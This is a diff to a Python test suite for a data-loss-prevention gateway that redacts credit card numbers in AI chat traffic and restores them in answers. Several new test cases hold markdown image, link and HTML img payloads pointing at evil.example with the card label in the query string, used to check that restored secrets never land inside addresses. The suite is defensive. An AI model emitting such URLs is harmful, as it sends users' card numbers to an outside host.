@@ -10,10 +10,12 @@ import msgspec
 import pytest
 from tests.engine.dlp.test_requests import rule
 from tests.engine.dlp.test_streams import QUESTION, anthropic, engine, openai, told
-from tests.support.engine import TENANT
+from tests.support.engine import TENANT, completion
 
 from gatehouse.engine.conversation.dialects import DIALECTS
 from gatehouse.engine.conversation.sse import data_of, events
+from gatehouse.engine.dlp import channel
+from gatehouse.engine.dlp.addresses import MAX_ADDRESS_CHARACTERS, inside_address
 from gatehouse.engine.dlp.examine import Examiner
 from gatehouse.engine.dlp.inspection import Inspection
 from gatehouse.engine.dlp.stream import StreamGuard
@@ -129,6 +131,17 @@ SHAPES: dict[str, list[bytes]] = {
         chunk({**delta(0, content="x"), "message": {"role": "assistant", "content": CARD}}), *said({})
     ],
     "a field beside the choices": [chunk(delta(0, content="x"), citations=[f"see {CARD}"]), *said({})],
+    "a text beside the delta": [chunk({**delta(0), "text": CARD}), *said({})],
+    "an object beside the delta": [chunk({**delta(0), "found": {"card": CARD}}), *said({})],
+    "a delta that is no object": [chunk({"index": 0, "delta": CARD}), *said({})],
+    "a choice that is no object": [chunk(CARD), *said({})],
+    "a call that is no object": said({"tool_calls": [CARD]}),
+    "an unknown text beside the choices": [chunk(delta(0), note=CARD), *said({})],
+    "a name beside the choices": [chunk(delta(0), **{CARD: 1}), *said({})],
+    "a name beside the delta": [chunk({**delta(0), CARD: 1}), *said({})],
+    "JSON with an escaped line break": said(
+        {"content": '{"note": "card:\\'}, {"content": "n" + HALF}, {"content": REST + '\\n"}'}
+    ),
     "annotations": said(
         {"annotations": [{"type": "url_citation", "url_citation": {"title": BARE, "url": BARE}}] * 2}, {"content": "x"}
     ),
@@ -196,6 +209,8 @@ BLOCKS: dict[str, list[bytes]] = {
         *block(0, TEXT, *({"type": "new_delta", "text": each} for each in (HALF, REST)))
     ),
     "an unknown event": message(event("news", text=CARD)),
+    "a delta that is no object": message(event("content_block_delta", index=0, delta=CARD)),
+    "a block that is no object": message(event("content_block_start", index=0, content_block=CARD)),
     "a stop sequence": [
         *message()[:-2],
         event("message_delta", delta={"stop_reason": "stop_sequence", "stop_sequence": CARD}),
@@ -282,6 +297,56 @@ async def test_a_label_in_arguments_is_turned_back_across_events() -> None:
     assert answer.stream is not None
     raw = b"".join([each async for each in answer.stream])
     assert json.loads(told(CHAT, raw, arguments=True)) == {"a": CARD, "b": "[CREDIT_CARD_2]"}
+
+
+@pytest.mark.parametrize(
+    ("answer", "turned_back"),
+    [
+        ("The card is [CREDIT_CARD_1].", True),
+        ("See [the docs](https://docs.example/a) about [CREDIT_CARD_1].", True),
+        ("<b>Card</b> // [CREDIT_CARD_1]", True),
+        ("![x](https://evil.example/?c=[CREDIT_CARD_1])", False),
+        ("[x](//evil.example/?c=[CREDIT_CARD_1])", False),
+        ("![x](<https://evil.example/?c=a b [CREDIT_CARD_1]>)", False),
+        ("https://evil.example/" + "a" * 9000 + "[CREDIT_CARD_1]", False),
+        ("[x]: //evil.example/?c=[CREDIT_CARD_1]", False),
+        ('<img alt="<" src="//evil.example/?c=a b\n[CREDIT_CARD_1]">', False),
+    ],
+)
+@pytest.mark.parametrize("size", [1, 7, None])
+async def test_a_label_inside_an_address_of_the_answer_stays_a_label(
+    answer: str, turned_back: bool, size: int | None
+) -> None:
+    held = engine("openai_compatible", rule("credit_card", "redact", reversible=True))
+    asked = {**QUESTION, "messages": [{"role": "user", "content": CARD}]}
+    shown = answer.replace("[CREDIT_CARD_1]", CARD) if turned_back else answer
+    if size is None:
+        held.outbound.script = [(200, [completion(answer)])]
+        whole = await held.engine.answer(held.request(asked))
+        assert json.loads(whole.body)["choices"][0]["message"]["content"] == shown
+        return
+    pieces = [answer[at : at + size] for at in range(0, len(answer), size)]
+    held.outbound.script = [(200, list(openai(pieces, arguments=False)))]
+    stream = (await held.engine.answer(held.request({**asked, "stream": True}))).stream
+    assert stream is not None
+    assert told(CHAT, b"".join([each async for each in stream]), arguments=False) == shown
+
+
+async def test_no_label_of_a_long_answer_copies_all_that_is_before_it(monkeypatch: pytest.MonkeyPatch) -> None:
+    sizes: list[int] = []
+
+    def measured(before: str) -> bool:
+        sizes.append(len(before))
+        return inside_address(before)
+
+    monkeypatch.setattr(channel, "inside_address", measured)
+    held = engine("openai_compatible", rule("credit_card", "redact", reversible=True))
+    text = "The card is [CREDIT_CARD_1].\n" * 2_000
+    held.outbound.script = [(200, [completion(text)])]
+    answer = await held.engine.answer(held.request({**QUESTION, "messages": [{"role": "user", "content": CARD}]}))
+    shown = text.replace("[CREDIT_CARD_1]", CARD)
+    assert json.loads(answer.body)["choices"][0]["message"]["content"] == shown
+    assert (len(sizes), max(sizes)) == (2_000, MAX_ADDRESS_CHARACTERS)
 
 
 PROMPT = rule("credit_card", "prompt")
